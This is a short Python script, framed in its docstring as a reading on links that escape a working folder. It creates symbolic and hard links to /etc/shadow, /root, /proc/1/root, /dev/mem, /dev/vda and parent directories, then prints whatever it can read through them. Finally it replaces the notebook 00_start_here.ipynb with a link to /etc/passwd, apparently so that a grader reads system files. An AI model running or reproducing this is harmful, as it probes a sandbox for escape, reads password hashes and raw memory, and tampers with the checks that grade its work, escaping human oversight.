"""Reading: symbolic links from the working folder to what lies outside

And hard links, bind mounts, and a notebook that becomes a link while it is graded.
"""
import os

for target in ("/etc/shadow", "/root", "/proc/1/root", "/proc/self/fd", "../../..", "/dev/mem", "/dev/vda"):
    for make in (os.symlink, os.link):
        try:
            make(target, "link")
            print(os.listdir("link") if os.path.isdir("link") else open("link", "rb").read(200))
        except OSError: pass
        try: os.unlink("link")
        except OSError: pass
try:
    os.unlink("00_start_here.ipynb")
except OSError: pass
os.symlink("/etc/passwd", "00_start_here.ipynb")
